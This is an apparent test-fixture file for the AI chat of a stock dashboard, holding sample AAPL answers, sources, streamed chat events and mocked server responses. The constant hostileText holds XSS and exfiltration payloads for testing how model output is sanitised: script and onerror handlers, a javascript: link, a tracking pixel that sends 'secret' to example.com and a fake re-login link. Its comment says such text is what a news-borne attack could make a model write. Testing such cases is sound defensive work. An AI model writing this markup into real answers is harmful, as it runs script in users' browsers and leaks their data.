import { aiApi } from '@candlewick/shared-api';
import { answer, events, type CallDouble } from '@candlewick/shared-page/testing';
import type { ChatEvent, Engine, Source, Summary } from './ai.types.ts';

/** The newest close of the sample. */
const closeOfSample = Date.UTC(2026, 10, 20, 21);

export const builtIn: Engine = {
  engine: 'builtin',
  label: 'Built-in analyst',
  description: 'Answers are built from Candlewick data by fixed rules, not by a language model.',
  accepts_images: false,
  questions_used_today: 3,
  questions_per_day: 200,
};

const incomeStatement: Source = {
  title: 'Income statement of AAPL',
  href: '/dashboard/AAPL/financial-statements',
  source_label: 'Sample market',
  simulated: true,
  as_of: Date.UTC(2026, 8, 30),
};

const prices: Source = {
  title: 'Prices of AAPL',
  href: '/dashboard/AAPL/prices',
  source_label: 'Sample market',
  simulated: true,
  as_of: closeOfSample,
};

const help: Source = {
  title: 'Trader’s guide',
  href: null,
  source_label: 'Candlewick',
  simulated: false,
  as_of: null,
};

const text = `**Apple earns more on the same sales.** Its net margin rose to 26.9%, from 25.3% a year before.

| Fiscal year | Revenue | Net income | Margin |
| --- | ---: | ---: | ---: |
| 2026 | $391.0B | $105.2B | 26.9% |
| 2025 | $383.3B | $97.0B | 25.3% |

See the [income statement](/dashboard/AAPL/financial-statements).`;

export const steps: readonly ChatEvent[] = [
  { type: 'start', engine: 'builtin', label: 'Built-in analyst' },
  { type: 'step', id: '1', text: 'Reading AAPL’s income statement', state: 'running' },
  { type: 'step', id: '1', text: 'Reading AAPL’s income statement', state: 'done' },
  { type: 'step', id: '2', text: 'Reading AAPL’s prices', state: 'running' },
];

export const wholeAnswer: readonly ChatEvent[] = [
  ...steps,
  { type: 'step', id: '2', text: 'Reading AAPL’s prices', state: 'done' },
  { type: 'text', text },
  { type: 'sources', sources: [incomeStatement, prices, help] },
  { type: 'choices', choices: ['How much debt does AAPL have?', 'Compare AAPL and MSFT'] },
  { type: 'end', reason: 'complete' },
];

/** What an attack through the news could make a model write. */
export const hostileText = `<script>window.hurt = true</script><img src="x" onerror="window.hurt = true">

![tracker](https://example.com/pixel.png?q=secret) [Log in again](https://example.com/login) [run](javascript:window.hurt=true)

[slashes](//example.com) [api](/api/auth/logout) <a href="https://example.com" onclick="window.hurt = true">raw</a>`;

export const summary: Summary = {
  ticker: 'AAPL',
  engine: 'builtin',
  label: 'Built-in analyst',
  text: `**The news on Apple is mostly friendly.** Of 14 articles in two weeks, 8 read positive and 2 negative.

- Services revenue grew by 13.9%, the most in three years.
- Two analysts raised their price targets to $260 and $275.`,
  sources: [{ ...prices, title: 'News of AAPL', href: '/dashboard/AAPL/news' }],
  unsupported: [],
  written_at: closeOfSample,
};

/** The server's responses for the chat. */
export function chatAnswers(data: readonly ChatEvent[] = wholeAnswer, engine: Engine = builtIn): readonly CallDouble[] {
  return [answer(aiApi.aiEngine, engine), events(aiApi.chat, data)];
}
